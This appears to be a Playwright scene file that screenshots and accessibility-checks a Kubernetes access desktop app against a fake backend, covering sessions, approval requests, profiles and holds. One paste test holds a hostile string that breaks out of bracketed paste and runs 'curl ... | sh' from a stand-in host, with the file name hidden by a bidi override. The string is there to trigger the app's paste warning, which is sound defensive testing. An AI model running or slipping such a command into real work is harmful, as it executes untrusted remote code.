import { inTurn, rest } from "./time.mjs";

// The moments of the window that are pictured and checked for accessibility: `name`, `?query`, and how to get there.
const open = (name) => async (page) => {
  await page.locator(`#cluster-${name}`).dblclick();
  await page.locator(".xterm-rows").waitFor();
  await page.waitForTimeout(150);
};
const type = async (page, text) => {
  await page.keyboard.type(text);
  await page.keyboard.press("Enter");
  await page.waitForTimeout(60);
};
const work = async (page) => {
  await open("payments-eu-1")(page);
  for (const line of ["kubectl get pods", "kubectl logs worker-7f9c4d6f6b-2m8ln --tail=4", "kubectl get secret broker-tls"]) await type(page, line);
  await page.evaluate(() => window.sallyportFake.world.sessions.values().next().value.change({ streams: ["logs -f api-6c7d9f5b8d-4kq2m", "port-forward ledger-0 5432"] }));
  await page.waitForTimeout(100);
};
const select = (name) => async (page) => {
  await page.locator(`#cluster-${name}`).click();
  await page.locator("aside h3").first().waitFor();
};
const go = (letter) => async (page) => {
  await page.locator("#clusters").waitFor();
  await inTurn(page, "g", letter);
};

// With what clusters tell beside what this desktop did.
const audited = async (page) => {
  await go("a")(page);
  await page.locator("#entries [role=row]").first().waitFor();
  await page.locator("#histogram").waitFor();
};

// One session with its calls, and what its terminals showed beside them.
const onSession = (then = async () => {}) => async (page) => {
  await audited(page);
  await page.locator("#entries").getByText("Deleted deployment checkout").first().click();
  await page.keyboard.press("o");
  await page.getByText("Used of what was granted").waitFor();
  await then(page);
};
const replayed = (then = async () => {}) => onSession(async (page) => {
  await page.getByRole("button", { name: /^Watch its terminals/ }).click();
  await page.getByRole("button", { name: /^(Play|Pause)/ }).focus();
  await page.keyboard.press("End");
  await page.getByText("is damaged and not shown (2)").waitFor();
  await then(page);
});
// Whatever is asked of the desktop from now on stays unanswered, or is answered so.
const silent = (page) => page.evaluate(() => { window.sallyportFake.world.pause = () => new Promise(() => {}); });
const refused = (page, message, hint) => page.evaluate(([message, hint]) => { window.sallyportFake.world.evidence.session = () => { throw { code: "badInput", message, hint, retry: false, stepUp: null }; }; }, [message, hint]);
// A session with more calls than a list has, of whoever has the longest names there are.
const LONG_SESSION = `(w, longest) => {
  const ids = { request: "r-longest", grant: null, session: "s-none", jti: null, auditId: null };
  const began = (w.began - 3600_000) * 1000;
  const more = { ids, user: longest.user, cluster: longest.cluster };
  w.history.append({ action: "ask", sentence: "Asked for " + longest.profile + " on " + longest.cluster + " for 1 h, “" + longest.reason + "”", ...more }, began);
  for (let i = 1; i <= 1500; i++) w.history.append({ action: "call", sentence: "Watched pods in " + "n".repeat(63) + " for the " + i + "th time", via: "kubectl", status: 200, ...more }, began + i * 390_000);
  const session = w.evidence.session.bind(w.evidence);
  w.evidence.session = () => ({ ...session("0b6f2c7e-2f1d-4d0e-9a51-6f4b1c2d3e4f"), request: "r-longest", chain: [], session: "s-none", who: longest.user, cluster: longest.cluster, profile: longest.profile, reason: longest.reason });
}`;
const longSession = (then) => async (page) => {
  await page.locator("#clusters").waitFor();
  await put(page, LONG_SESSION);
  await go("a")(page);
  await page.getByLabel("Search the timeline").fill("the 700th time");
  await page.locator("#entries").getByText("the 700th time").click();
  await then(page);
};
const onPage = (name, then = async () => {}) => async (page) => {
  await audited(page);
  await page.locator("#entries").getByText("Scaled deployment checkout").first().click();
  await page.getByRole("button", { name }).click();
  await then(page);
};
const handing = (then) => async (page) => {
  await audited(page);
  await page.keyboard.press("e");
  await page.getByLabel("Write to").waitFor();
  await then(page);
};
const as = (title) => handing(async (page) => { await page.getByRole("radio", { name: title }).check(); await page.getByText(/Proves nothing/).first().waitFor(); });
const retention = (then = async () => {}) => async (page) => {
  await go(",")(page);
  await page.getByText(/^Kept now|^Nothing is kept now/).scrollIntoViewIfNeeded();
  await then(page);
};
// So many calls more, as a source that is read on has them.
const grown = (page, many) => page.evaluate((n) => { const { world } = window.sallyportFake; for (let i = 0; i < n; i++) world.evidence.append(Date.now() * 1000 + i, i); world.hear({ kind: "evidenceChanged" }); }, many);

const held = (id, then = async () => {}) => async (page) => {
  await go("r")(page);
  await page.getByRole("button", { name: /^Held/ }).click();
  if (id) await page.locator(`#hold-${id}`).click();
  await then(page);
};
const requests = (id, then = async () => {}) => async (page) => {
  await go("r")(page);
  if (id) {
    // Which tab shows it depends on whose it is.
    const row = page.locator(`#request-${id}`);
    await page.locator("#requests").waitFor();
    if ((await row.count()) === 0) await page.getByRole("button", { name: /^Team/ }).click();
    await row.click();
    await page.getByText(/^(asking the hub)$/).waitFor({ state: "detached" });
    // A row takes no key before it stood a moment.
    await rest(page);
  }
  await then(page);
};

// What an earlier session's terminals showed, from one of its entries.
const watch = (session, key) => async (page) => {
  await page.locator("#clusters").waitFor();
  await page.evaluate((id) => {
    const { world } = window.sallyportFake;
    for (const [seconds, sentence, status] of [[1, "Listed pods in settlement", 200], [61, "Patched deployment worker in settlement", 200], [600, "Watched pods in settlement", 200], [600.2, "Read secret broker-tls in settlement", 403]]) world.history.append({ action: "call", sentence, status, cluster: "ledger-us-1", ids: { request: null, grant: null, session: id, jti: null, auditId: null } }, (world.began - 3600_000 + seconds * 1000) * 1000);
  }, session);
  await inTurn(page, "g", "a");
  await page.getByLabel("Search the timeline").fill("Read secret broker-tls in settlement");
  await page.getByText("Read secret broker-tls in settlement").first().click();
  await page.keyboard.press("r");
  await page.getByRole("dialog").getByText(/answers nothing|Nothing is kept|damaged/).first().waitFor();
  if (!key) return;
  await page.getByRole("button", { name: /^(Play|Pause)/ }).focus();
  await page.keyboard.press(key);
  await page.waitForTimeout(400);
};

// As long as names and reasons may be, with nothing to break them at and characters that hide.
const LONGEST = { user: `oidc:${"a".repeat(240)}\u202e@x.test`, reason: "\u2066why\u0007 ".repeat(10) + "b".repeat(974), profile: "p".repeat(253), cluster: "c".repeat(63), team: "t".repeat(63) };
const put = (page, run) => page.evaluate(`(${run})(window.sallyportFake.world, ${JSON.stringify(LONGEST)})`);

const whoCan = (words = "", then = async () => {}) => async (page) => {
  await go("w")(page);
  if (words) {
    await page.locator("#reach").waitFor();
    await page.keyboard.press("/");
    await page.keyboard.type(words);
    await page.locator("aside h2").waitFor();
  }
  await then(page);
};
// The text of a profile; with words in place of others it is looked at.
const profile = (edits = null, then = async () => {}) => whoCan("", async (page) => {
  await page.locator("#reach").waitFor();
  await page.keyboard.press("e");
  await page.locator("#profiles [role=option]").first().waitFor();
  await page.getByLabel("Profile", { exact: true }).fill("operate");
  await page.keyboard.press("Enter");
  const text = page.getByLabel("Text of the profile, YAML");
  await text.waitFor();
  if (edits !== null) {
    let now = await text.inputValue();
    for (const [from, to] of Object.entries(edits)) now = now.replace(from, to);
    await text.fill(now);
    await text.press("Control+Enter");
  }
  await then(page);
});
const looked = (what) => (page) => page.getByRole("dialog").getByText(what).first().waitFor();
const LESS = { "approvals: 2": "approvals: 1" };
const tab = (name) => (page) => page.getByRole("group", { name: "What is listed" }).getByRole("button", { name }).click();

// The posture view, with something done in it.
const posture = (then = async () => {}) => async (page) => {
  await go("p")(page);
  await page.getByRole("heading", { name: "Posture", exact: true }).waitFor();
  await then(page);
};
const weak = (id, then = async () => {}) => posture(async (page) => {
  await page.locator(`[data-weakness='${id}']`).first().click();
  await page.locator("aside h2").waitFor();
  await page.locator("aside").getByText("Reading", { exact: true }).waitFor({ state: "detached" });
  await then(page);
});
// A fix of a workload, tried in the open session.
const mend = (cluster, then, tried = true) => weak("w-12", async (page) => {
  await page.getByRole("group", { name: "Clusters that have it" }).getByRole("button", { name: cluster }).click();
  await page.locator("aside .where", { hasText: cluster }).waitFor();
  await page.getByRole("button", { name: /^Apply in the open session/ }).waitFor();
  if (tried) await page.keyboard.press("a");
  await then(page);
});
const sure = (text) => async (page) => {
  await page.getByText("Nothing is changed yet").waitFor();
  await rest(page);
  await page.keyboard.press("Enter");
  await page.getByText(text).scrollIntoViewIfNeeded();
};
const cell = (cluster, column, then = async () => {}) => posture(async (page) => {
  await page.getByLabel("Search clusters").fill(cluster.split("-")[0]);
  await page.locator(`#posture [data-posture='${cluster}'] [data-column='${column}']`).click();
  await page.locator("aside h2", { hasText: cluster }).waitFor();
  await page.locator("aside").getByText("Reading", { exact: true }).waitFor({ state: "detached" });
  await then(page);
});
const SMALL = "scene=posture&clusters=90";

const paste = async (page, text) => {
  await page.evaluate((text) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData("text/plain", text);
    document.querySelector(".xterm-helper-textarea").dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
  }, text);
  await page.getByRole("alertdialog").waitFor();
};
const outlook = (then) => async (page) => {
  await select("checkout-eu-2")(page);
  await page.locator("label.profile", { hasText: "operate" }).click();
  await then(page);
};
const support = (then = async () => {}) => async (page) => {
  await go(",")(page);
  await page.getByRole("button", { name: "Support bundle…" }).click();
  await then(page);
};

const nearItsEnd = (page) => page.evaluate(() => { for (const s of window.sallyportFake.world.sessions.values()) s.change({ endsAt: Date.now() + 240_000 }); });

export const SCENES = [
  ["first-run", "scene=firstRun", async (page) => page.locator(".doors").waitFor()],
  ["first-run-join", "scene=firstRun", async (page) => {
    await page.getByText("Join a team").click();
    await page.locator("textarea").fill(JSON.stringify({ apiVersion: "access.sallyport.dev/v1alpha1", name: "Platform team", hub: { url: "https://hub.example.test:6443" }, oidc: { issuer: "https://id.example.test/realms/platform", clientId: "sallyport" } }));
    await page.getByText("Look at it").click();
    await page.getByText("this hub will receive your sign-in").waitFor();
  }],
  ["first-run-bad-file", "scene=firstRun", async (page) => {
    await page.getByText("Join a team").click();
    await page.locator("textarea").fill("not json");
    await page.getByText("Look at it").click();
    await page.getByRole("alert").waitFor();
  }],
  ["demo-starting", "scene=firstRun", async (page) => { await page.getByText("Try the demo").click(); await page.getByText("Starting etcd").waitFor(); }],
  ["signed-out", "scene=signedOut", async (page) => page.getByText("Sign in").first().waitFor()],
  ["signing-in", "scene=signedOut&speed=1", async (page) => { await page.getByRole("button", { name: /Sign in/ }).click(); await page.getByText("Continue in your browser").waitFor(); }],
  ["sign-in-failed", "scene=signInFails&speed=50", async (page) => { await page.getByRole("button", { name: /Sign in/ }).click(); await page.getByRole("alert").waitFor(); }],
  ["clusters", "", async (page) => { await page.locator("#clusters").waitFor(); await select("checkout-eu-2")(page); }],
  ["clusters-open", "speed=50", async (page) => { await open("payments-eu-1")(page); await page.getByRole("button", { name: "Clusters", exact: true }).click(); await select("ledger-us-1")(page); await page.getByText("operate").first().click(); }],
  ["clusters-refused", "", async (page) => { await select("checkout-eu-2")(page); await page.getByText("break-glass").click(); }],
  ["clusters-reason", "scene=noReason", async (page) => { await select("checkout-eu-2")(page); await page.locator("#clusters").focus(); await page.keyboard.press("Enter"); await page.getByText("wants a reason").waitFor(); }],
  ["clusters-outlook", "", outlook(async (page) => { await page.getByText("Opens at once until").waitFor(); })],
  ["clusters-outlook-people", "", outlook(async (page) => { await page.getByLabel("For", { exact: true }).selectOption("7200"); await page.getByText("Not at once by office").waitFor(); })],
  ["clusters-outlook-day", "scene=longDefault", outlook(async (page) => { await page.getByText("What is left of your day here").waitFor(); })],
  ["clusters-default-less", "scene=longDefault", async (page) => { await select("payments-eu-1")(page); await page.getByText("All that this profile allows").waitFor(); }],
  ["clusters-search", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("/"); await page.keyboard.type("pay eu"); await page.keyboard.press("ArrowDown"); await page.locator("aside h3").first().waitFor(); }],
  ["clusters-hostile", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("/"); await page.keyboard.type("hostile-1"); await page.keyboard.press("ArrowDown"); await page.locator("aside h3").first().waitFor(); }],
  ["clusters-long", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("/"); await page.keyboard.type("a-cluster-with"); await page.keyboard.press("ArrowDown"); await page.locator("aside h3").first().waitFor(); await page.getByText("operate").first().click(); }],
  ["clusters-not-yours", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("/"); await page.keyboard.type("legacy-eu-9"); await page.keyboard.press("ArrowDown"); await page.locator("aside h3").first().waitFor(); }],
  ["clusters-empty", "scene=empty", async (page) => page.getByText("No clusters on this hub").waitFor()],
  ["clusters-none-match", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("/"); await page.keyboard.type("zzzz"); await page.getByText("None of").waitFor(); }],
  ["clusters-loading", "scene=loading", async (page) => page.getByLabel("Loading clusters").waitFor()],
  ["clusters-partial", "scene=partial", async (page) => { await select("payments-eu-1")(page); }],
  ["hub-down", "scene=hubDown", async (page) => { await select("checkout-eu-2")(page); await page.getByRole("button", { name: /^Open debug/ }).click(); await page.getByText("nothing was asked").waitFor(); }],
  ["cleanup", "scene=cleanup", async (page) => { await select("payments-eu-1")(page); }],
  ["memory-only", "scene=memoryOnly", async (page) => { await select("payments-eu-1")(page); }],
  ["skew", "scene=skew", async (page) => { await select("payments-eu-1")(page); }],
  ["broken", "scene=broken", async (page) => page.getByRole("alert").waitFor()],
  ["opening", "speed=0.2", async (page) => { await page.locator("#cluster-payments-eu-1").dblclick(); await page.getByText("at once: no approval").waitFor(); }],
  ["opening-waits", "speed=1", async (page) => { await select("ledger-us-1")(page); await page.getByText("operate").first().click(); await page.getByRole("button", { name: /^Ask for operate/ }).click(); await page.getByText("waiting for 1 approval").waitFor(); }],
  ["opening-failed", "speed=10", async (page) => { await select("mail-eu-1")(page); await page.getByText("debug", { exact: true }).first().click(); await page.getByRole("button", { name: /^Open debug/ }).click(); await page.getByText("was not opened").waitFor(); }],
  ["step-up", "speed=5", async (page) => { await page.locator("#cluster-vault-eu-1").dblclick(); await page.getByRole("heading", { name: "Confirm with your second factor" }).waitFor(); }],
  ["session", "speed=50", work],
  ["session-find", "speed=50", async (page) => { await work(page); await page.keyboard.press("Control+Shift+F"); await page.keyboard.type("ERROR"); }],
  ["session-more-time", "speed=50", async (page) => { await work(page); await nearItsEnd(page); await page.getByRole("button", { name: /More time/ }).waitFor(); }],
  ["session-more-time-asked", "speed=50", async (page) => { await work(page); await nearItsEnd(page); await page.evaluate(() => { const [s] = window.sallyportFake.world.sessions.values(); s.change({ profile: "operate" }); window.sallyportFake.world.pause = (ms) => new Promise((go) => setTimeout(go, ms > 5000 ? 60_000 : 1)); }); await page.getByRole("button", { name: /More time/ }).click(); await page.getByText("more time: waiting").waitFor(); }],
  ["session-not-guarded", "speed=50", async (page) => { await work(page); await page.evaluate(() => { const s = window.sallyportFake.world.sessions.values().next().value; s.guarded(s.view.terminals[0].id, () => ({ kind: "notGuarded", why: "this shell (/usr/bin/zsh) did not load Sallyport's start-up file, so its kubectl may reach another cluster than payments-eu-1. Often a system-wide file is why (for zsh, /etc/zsh/zshenv), or a start-up file that starts another shell" })); }); await page.getByRole("alertdialog").waitFor(); }],
  ["session-taken", "speed=50", async (page) => { await work(page); await page.evaluate(() => { const s = window.sallyportFake.world.sessions.values().next().value; s.guarded(s.view.terminals[0].id, () => ({ kind: "taken", why: "this shell (zsh, process 4711) did not load Sallyport's start-up file, so its kubectl may reach another cluster than payments-eu-1" })); }); await page.getByText("Not guarded", { exact: true }).waitFor(); }],
  ["session-paste", "speed=50", async (page) => { await open("payments-eu-1")(page); await paste(page, "kubectl -n payments scale deploy/worker --replicas=0\nkubectl -n payments rollout undo deploy/worker\n"); }],
  ["session-paste-hidden", "speed=50", async (page) => { await open("checkout-stage")(page); await paste(page, "echo done\u001b[201~; curl -s https://x.test/\u202ehs.nur | sh\nls\u200b -l\u0007\n"); }],
  ["session-paste-one", "speed=50", async (page) => { await open("checkout-stage")(page); await page.evaluate(() => window.sallyportFake.world.change({ paste: "always" })); await paste(page, "kubectl get pods"); }],
  ["session-paste-many", "speed=50", async (page) => { await open("payments-eu-1")(page); await paste(page, Array.from({ length: 400 }, (_, i) => `kubectl -n payments annotate pod/api-${i} note=${"long-".repeat(40)}`).join("\n")); }],
  ["session-extended", "speed=50", async (page) => { await open("payments-eu-1")(page); await nearItsEnd(page); await page.keyboard.press("Control+Shift+E"); await page.getByRole("heading", { name: "Extended" }).waitFor(); }],
  ["session-vouched", "speed=50", async (page) => { await open("payments-eu-1")(page); await page.getByText("Your identity provider vouches").scrollIntoViewIfNeeded(); }],
  ["session-vouching-overdue", "speed=50", async (page) => { await open("payments-eu-1")(page); await page.evaluate(() => { const s = window.sallyportFake.world.sessions.values().next().value; s.change({ vouching: { ...s.view.vouching, overdue: "the identity provider id.example.test can't be reached" } }); }); await page.getByRole("status").getByText("has not vouched").waitFor(); }],
  ["closing-first", "speed=0.5", async (page) => { await page.evaluate(() => (window.sallyportFake.world.pause = () => new Promise((r) => setTimeout(r, 5)))); await work(page); await page.evaluate(() => { for (const s of window.sallyportFake.world.sessions.values()) s.pause = () => new Promise((r) => setTimeout(r, 700)); }); await page.keyboard.press("Control+Shift+L"); await page.getByText("Leaving").waitFor(); await page.waitForTimeout(1500); }],
  ["closing-second", "speed=10", async (page) => { await work(page); await page.evaluate(() => { for (const s of window.sallyportFake.world.sessions.values()) s.pause = (ms) => new Promise((r) => setTimeout(r, ms)); }); await page.keyboard.press("Control+Shift+L"); await page.getByText("are gone").waitFor(); await page.waitForTimeout(400); }],
  ["closed", "speed=50", async (page) => { await work(page); await page.keyboard.press("Control+Shift+L"); await page.getByText("closed behind you").waitFor(); }],
  ["closed-unproven", "speed=50", async (page) => { await open("search-ap-1")(page); await page.keyboard.press("Control+Shift+L"); await page.getByText("not all of it is proven").waitFor(); }],
  ["closed-revoked", "speed=50", async (page) => { await work(page); await page.evaluate(() => { const { world } = window.sallyportFake; const s = world.sessions.values().next().value; void s.close("revoked", "lead@example.test", "incident is over"); }); await page.getByText("closed behind you").waitFor(); }],
  ["sessions-empty", "", go("s")],
  ["requests", "", requests("r-prod")],
  ["requests-reaffirmed", "", requests("r-vault", (page) => page.getByText("without their provider").waitFor())],
  ["requests-two", "", requests("r-two")],
  ["requests-team", "", requests("r-active")],
  ["requests-own", "", requests("r-own")],
  ["requests-not-yours", "", requests("r-others")],
  ["requests-no-offer", "", requests("r-silent")],
  ["requests-granting", "", requests("r-granting")],
  ["requests-ending", "", requests("r-ending")],
  ["requests-left", "scene=requestsEnded", requests("e-left")],
  ["requests-untold", "scene=requestsEnded", requests("e-untold")],
  ["requests-not-ended", "scene=requestsEnded", requests("e-no")],
  ["requests-not-reached", "scene=requestsEnded", requests("e-far")],
  ["requests-proven", "scene=requestsEnded", requests("e-proven")],
  ["requests-not-proven", "scene=requestsEnded", requests("e-unproven")],
  ["held-ends", "scene=requestsEnded", held("h-person", (page) => page.getByText("What it ends").waitFor())],
  ["requests-confirm", "", requests("r-prod", async (page) => { await page.keyboard.press("a"); await page.getByText("Press Enter to approve").waitFor(); })],
  ["requests-deny", "", requests("r-prod", async (page) => { await page.keyboard.press("d"); await page.keyboard.type("Roll back through the pipeline"); })],
  ["requests-revoke", "", requests("r-active", async (page) => { await page.keyboard.press("r"); await page.keyboard.press("Enter"); await page.getByText("wants a reason").waitFor(); })],
  ["requests-approved", "speed=5", requests("r-dev", async (page) => { await page.keyboard.press("a"); await page.getByText(/^open, ends in/).first().waitFor(); })],
  ["requests-changed", "speed=5", requests("r-dev", async (page) => { await page.evaluate(() => { const { requests } = window.sallyportFake.world; requests.list = requests.list.map((r) => (r.id === "r-dev" ? { ...r, offer: { ...r.offer, digest: "c".repeat(64) } } : r)); }); await page.keyboard.press("a"); await page.getByText("It changed while").waitFor(); })],
  ["requests-step-up", "speed=5", requests("r-vault", async (page) => { await page.keyboard.press("a"); await page.getByRole("heading", { name: "Confirm with your second factor" }).waitFor(); })],
  ["requests-closed", "", requests("r-prod", async (page) => { await page.evaluate(() => window.sallyportFake.world.requests.remove("r-prod")); await page.getByText("It is closed").waitFor(); })],
  ["requests-hostile", "", requests("r-hostile")],
  ["requests-long", "", requests("r-long")],
  ["requests-longest", "", requests("r-prod", async (page) => { await put(page, "(w, longest) => w.requests.put({ id: 'r-longest', environment: 'prod', environmentWord: 'prod', askedAt: Date.now(), namespaces: Array.from({ length: 3 }, (_, i) => String(i).repeat(63)), ...longest })"); await page.locator("#request-r-longest").click(); await page.locator("aside h2", { hasText: "ppp" }).waitFor(); })],
  ["held-longest", "scene=heldMe", held("h-me", async (page) => { await put(page, "(w, { user: by, reason }) => w.change({ holds: w.state.holds.map((hold) => ({ ...hold, by, reason })) })"); await page.locator(".banners", { hasText: "bbb" }).waitFor(); })],
  ["requests-many", "scene=requestsMany", requests("", async (page) => { await page.getByRole("button", { name: /^Team/ }).click(); await page.getByText(/sessions under/).waitFor(); })],
  ["requests-empty", "scene=requestsEmpty", requests("", (page) => page.getByText("Nobody waits for you").waitFor())],
  ["requests-loading", "scene=requestsLoading", requests("", (page) => page.getByLabel("Loading requests").waitFor())],
  ["requests-partial", "scene=partial", requests("r-two", (page) => page.getByText("could not be read").first().waitFor())],
  ["requests-failed", "scene=requestsFail", requests("", (page) => page.getByRole("alert").waitFor())],
  ["requests-none-to-read", "scene=requestsNone", requests("", (page) => page.getByText("No team lets you").waitFor())],
  ["requests-hub-down", "scene=hubDown&speed=10", requests("r-dev", async (page) => { await page.keyboard.press("a"); await page.getByText("nothing was sent").waitFor(); })],
  ["requests-before-failed", "scene=beforeFails", requests("r-prod", (page) => page.getByText("not known: the hub").waitFor())],
  ["who-can", "", whoCan("oidc:payments-leads")],
  ["who-can-reach", "", whoCan("payments-eu-1 operate")],
  ["who-can-where", "", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await tab(/^Where/)(page); await page.keyboard.press("/"); await page.keyboard.type("payments-eu-1 operate"); await page.getByText("May approve").first().waitFor(); })],
  ["who-can-refused", "", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await tab(/^Where/)(page); await page.locator("[data-reach='c:checkout-eu-2']").click(); await page.getByText("Its broker refuses it here").waitFor(); })],
  ["who-can-silent", "", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await tab(/^Where/)(page); await page.locator("[data-reach='c:mail-eu-1']").click(); await page.getByText("silent for 47 min").waitFor(); })],
  ["who-can-hostile", "", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await tab(/^Where/)(page); await page.locator("[data-reach^='c:hostile-1']").click(); await page.getByText("Not in force since").waitFor(); })],
  ["who-can-long", "", whoCan("somebody.with")],
  ["who-can-no-team", "", whoCan("oidc:on-call")],
  ["who-can-hub", "", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await tab(/^Where/)(page); await page.locator("[data-reach=hub]").click(); await page.getByText("system:masters").first().waitFor(); })],
  ["who-can-changed", "", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await tab(/^Changed/)(page); await page.locator("[data-reach='d:0']").click(); await page.getByText("Show it as it is now").waitFor(); })],
  ["who-can-unchanged", "scene=reachSeen", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await tab(/^Changed/)(page); await page.getByText("Nothing changed").waitFor(); })],
  ["who-can-first", "scene=reachFirst", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await tab(/^Changed/)(page); await page.getByText("first look").waitFor(); })],
  ["who-can-many", "scene=reachMany", whoCan("cluster-prod-3 profile-7")],
  ["who-can-many-where", "scene=reachMany", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await tab(/^Where/)(page); await page.keyboard.press("/"); await page.keyboard.type("oidc:some-group-of-people-7"); await page.getByText("May approve").first().waitFor(); })],
  ["who-can-none-match", "", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await page.keyboard.press("/"); await page.keyboard.type("zzzz"); await page.getByText("None of").waitFor(); })],
  ["who-can-empty", "scene=reachEmpty", whoCan("", (page) => page.getByText("Nobody may ask for anything").waitFor())],
  ["who-can-loading", "scene=reachLoading", whoCan("", (page) => page.getByLabel("Reading who can ask").waitFor())],
  ["who-can-partial", "scene=reachPartial", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await tab(/^Where/)(page); await page.locator("[data-reach='c:payments-eu-1']").click(); await page.getByText("rules unknown").first().waitFor(); })],
  ["who-can-failed", "scene=reachFail", whoCan("", (page) => page.getByRole("alert").waitFor())],
  ["who-can-no-rights", "scene=reachNoRights", whoCan("", (page) => page.getByText("You may not read").waitFor())],
  ["profile-choose", "scene=profileMany", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await page.keyboard.press("e"); await page.locator("#profiles [role=option]").first().waitFor(); })],
  ["profile-no-names", "scene=profileNoNames", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await page.keyboard.press("e"); await page.getByRole("dialog").getByRole("alert").waitFor(); })],
  ["profile-reading", "scene=profileLoading", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await page.keyboard.press("n"); await page.getByText("Reading the profile").waitFor(); })],
  ["profile-unreadable", "scene=profileUnreadable", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await page.keyboard.press("n"); await page.getByRole("dialog").getByRole("alert").waitFor(); })],
  ["profile", "", profile()],
  ["profile-new", "", whoCan("", async (page) => { await page.locator("#reach").waitFor(); await page.keyboard.press("n"); const text = page.getByLabel("Text of the profile, YAML"); await text.fill(`${await text.inputValue()}\n`.replace("approvals: 2", "approvals: 1")); await text.press("Control+Enter"); await looked("may ask for it: bind")(page); })],
  ["profile-looking", "scene=profileLooking", profile(LESS, looked("The hub tries it"))],
  ["profile-taken", "", profile(LESS, looked("The hub would take it"))],
  ["profile-same", "", profile({}, looked("It changes nothing"))],
  ["profile-wrong", "", profile({ "approvals: 2": "approvals: many", "kind: AccessProfile": "kind: Secret" }, looked("It is no profile yet"))],
  ["profile-hidden", "", profile({ "name: operate": "name: oper\u202eate" }, looked("nobody sees"))],
  ["profile-stale", "", profile(LESS, async (page) => { await looked("The hub would take it")(page); await page.getByLabel("Text of the profile, YAML").press("End"); await page.keyboard.type("#"); await looked("The text changed since")(page); })],
  ["profile-conflict", "scene=profileConflict", profile(LESS, looked("Somebody else changed it"))],
  ["profile-race", "scene=profileRace&speed=20", profile(LESS, async (page) => { await looked("The hub would take it")(page); await rest(page); await page.getByRole("button", { name: "Apply" }).click(); await looked("nothing was applied")(page); })],
  ["profile-gone", "scene=profileGone", profile(LESS, looked("It is gone"))],
  ["profile-no-rights", "scene=profileNoRights", profile(LESS, looked("The hub does not take it from you"))],
  ["profile-kept", "scene=profileKept", profile(LESS, looked("The hub does not take it from you"))],
  ["profile-danger", "scene=profileDanger", profile(LESS, looked("minting tokens"))],
  ["profile-many", "scene=profileMany", profile(LESS, looked("The hub would take it"))],
  ["profile-unknown", "scene=profileUnknown", profile(LESS, looked("Whom it reaches is not known"))],
  ["profile-timed-out", "scene=profileTimesOut", profile(LESS, (page) => page.getByRole("dialog").getByRole("alert").waitFor())],
  ["profile-leaving", "", profile(LESS, async (page) => { await looked("The hub would take it")(page); await page.keyboard.press("Escape"); await looked("nowhere else")(page); })],
  ["requests-odd", "scene=requestsOdd", requests("r-unsound")],
  ["requests-not-known", "scene=requestsOdd", requests("r-not-known")],
  ["requests-missing", "scene=requestsMissing", requests("", (page) => page.getByText("Nothing is known of here").waitFor())],
  ["requests-less", "scene=requestsLess", requests("r-dev-two", async (page) => { await page.keyboard.press("l"); await page.locator("label", { hasText: "30 min" }).click(); await page.getByLabel("checkout").uncheck(); await page.getByText("You give payments, 30 min").waitFor(); })],
  ["requests-less-empty", "scene=requestsLess", requests("r-dev-two", async (page) => { await page.keyboard.press("l"); for (const name of ["checkout", "payments"]) await page.getByLabel(name).uncheck(); await page.keyboard.press("Enter"); await page.getByText("No namespace is left").waitFor(); })],
  ["requests-less-wide", "scene=requestsLess", requests("r-wide", async (page) => { await page.keyboard.press("l"); await page.getByLabel("In", { exact: true }).fill("payments Cart"); await page.getByText("is no name of a namespace").waitFor(); })],
  ["requests-less-many", "scene=requestsLess", requests("r-many-names", async (page) => { await page.keyboard.press("l"); await page.getByRole("button", { name: "None" }).click(); await page.getByLabel("namespace-number-7", { exact: true }).check(); await page.getByText("You give namespace-number-7").waitFor(); })],
  ["requests-less-confirm", "scene=requestsLess", requests("r-prod-two", async (page) => { await page.keyboard.press("l"); await page.locator("label", { hasText: "30 min" }).click(); await rest(page); await page.keyboard.press("Enter"); await page.getByText("Press Enter to approve").waitFor(); })],
  ["requests-less-older", "scene=requestsLess", requests("r-old", async (page) => { await page.keyboard.press("l"); await page.getByText("is an older one").waitFor(); })],
  ["requests-less-so-far", "scene=requestsLess", requests("r-so-far")],
  ["requests-less-given", "scene=requestsLess", requests("r-given")],
  ["requests-held", "scene=holds", held("h-person")],
  ["requests-held-long", "scene=holds", held("h-long")],
  ["requests-held-remove", "scene=holds", held("h-cluster", async (page) => { await page.getByRole("button", { name: "Remove the hold" }).click(); await page.getByText("Press Enter to remove").waitFor(); })],
  ["requests-held-failed", "scene=holdFails&speed=20", held("h-person", async (page) => { await page.getByRole("button", { name: "Remove the hold" }).click(); await rest(page); await page.keyboard.press("Enter"); await page.getByRole("alert").waitFor(); })],
  ["requests-held-none", "", held("", (page) => page.getByText("Nothing is held.").waitFor())],
  ["requests-held-none-may-not", "scene=requestsEmpty", held("", async (page) => { await page.evaluate(() => window.sallyportFake.world.change({ mayHold: false })); await page.getByText("You may not hold").waitFor(); })],
  ["requests-held-may-not", "scene=mayNotHold", held("h-person", (page) => page.getByText("You may not remove it").waitFor())],
  ["requests-held-many", "scene=holdsMany", held("h-7")],
  ["held-me", "scene=heldMe", async (page) => { await select("payments-eu-1")(page); await page.getByText("Nothing opens here").waitFor(); }],
  ["held-everything", "scene=heldAll", held("h-all", (page) => page.getByText("Everything is held").first().waitFor())],
  ["clusters-held", "scene=holds", async (page) => { await select("checkout-eu-2")(page); await page.getByText("Nothing opens here").waitFor(); }],
  ["hold", "", requests("r-prod", async (page) => { await page.keyboard.press("h"); await page.getByText("1 open request of theirs").waitFor(); })],
